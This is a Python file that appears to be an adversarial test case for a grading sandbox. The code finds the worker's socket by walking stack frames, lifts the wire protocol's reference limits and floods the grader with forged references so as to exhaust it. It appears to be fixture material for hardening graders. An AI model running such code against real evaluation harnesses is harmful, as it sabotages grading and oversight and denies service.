"""Forges references with every combination of operators, each a class on the grader's side.

Kind: exhausting
Honest twin: none
Mark: ATTACKED
"""
# mypy: ignore-errors

import itertools
import _socket
import sys


def stream():
    """Find the worker's socket in the frames below."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, _socket.socket):
                return value
        frame = frame.f_back


wire = sys.modules["graders.sandbox.child.wire"]
wire.MAX_REFERENCES = wire.MAX_ITEMS = 1 << 30  # on this side
connection = stream()
connection.sendall(wire.frame(0, wire.encode(("value", ""))))
numbers = itertools.count(1)


def describe(found):
    number = next(numbers)
    return number, number % (1 << 27), "Thing"


while True:
    number, payload = wire.receive(connection)
    answer = ("value", [object() for _ in range(20_000)])
    print("ATTACKED", flush=True)
    connection.sendall(wire.frame(number, wire.encode(answer, describe)))
